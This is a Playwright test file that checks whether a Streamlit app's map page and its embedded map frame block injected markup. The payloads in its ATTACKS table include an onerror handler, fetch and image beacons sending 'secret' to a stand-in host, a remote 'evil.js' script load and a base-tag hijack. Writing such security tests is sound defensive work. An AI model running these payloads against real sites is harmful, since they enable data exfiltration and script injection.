"""What text that became markup could do in a page: much in a plain app, nothing in ours."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Frame, Page

from tests.browser.serving import Server

# Each returns whether it did what it wanted. In the page of an app, or in a frame of it.
ATTACKS = {
    "an inline handler runs": """async () => {
        document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='window.hit = true'>");
        await new Promise((done) => setTimeout(done, 300));
        return Boolean(window.hit);
    }""",
    "another host is told": """async () => {
        const seen = new Promise((done) => document.addEventListener(
            "securitypolicyviolation", () => done(false)));
        const sent = fetch("http://192.0.2.1/?secret", { mode: "no-cors" }).then(
            () => true, () => new Promise((done) => setTimeout(done, 300, true)));
        return Promise.race([seen, sent]);
    }""",
    "a picture tells another host": """async () => {
        const seen = new Promise((done) => document.addEventListener(
            "securitypolicyviolation", () => done(false)));
        new Image().src = "http://192.0.2.1/?secret";
        return Promise.race([seen, new Promise((done) => setTimeout(done, 300, true))]);
    }""",
    "code is fetched from another host": """async () => {
        const seen = new Promise((done) => document.addEventListener(
            "securitypolicyviolation", () => done(false)));
        document.head.append(Object.assign(document.createElement("script"),
            { src: "http://192.0.2.1/evil.js" }));
        return Promise.race([seen, new Promise((done) => setTimeout(done, 300, true))]);
    }""",
    "text is run as code": """async () => {
        await new Promise((done) => setTimeout(done, 0)); // what is asked from outside may
        return new Promise((done) => setTimeout(() => {
            try { done(Function("return true")()); } catch { done(false); }
        }, 0));
    }""",
    "the page's addresses are bent": """async () => {
        const before = document.baseURI;
        document.head.prepend(Object.assign(document.createElement("base"),
            { href: "http://192.0.2.1/" }));
        const bent = document.baseURI !== before;
        document.querySelector("base").remove();
        return bent;
    }""",
}


@pytest.fixture(scope="module")
def open_page(chromium: Browser, open_app: Server) -> Iterator[Page]:
    page = chromium.new_page()
    page.goto(open_app.address)
    page.get_by_text("made ").wait_for(timeout=30_000)
    yield page
    page.close()


@pytest.fixture(scope="module")
def our_page(chromium: Browser, server: Server) -> Iterator[Page]:
    page = chromium.new_page()
    page.goto(server.address)
    page.frame_locator("iframe[title=Map]").locator(".pm-country").first.wait_for(timeout=30_000)
    yield page
    page.close()


def map_of(page: Page) -> Frame:
    (found,) = [frame for frame in page.frames if "streamlit_folium" in frame.url]
    return found


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=list(ATTACKS))
def test_markup_that_got_in_can_do_nothing(attack: str, open_page: Page, our_page: Page) -> None:
    assert open_page.evaluate(attack)
    assert not our_page.evaluate(attack)
    assert not map_of(our_page).evaluate(attack)
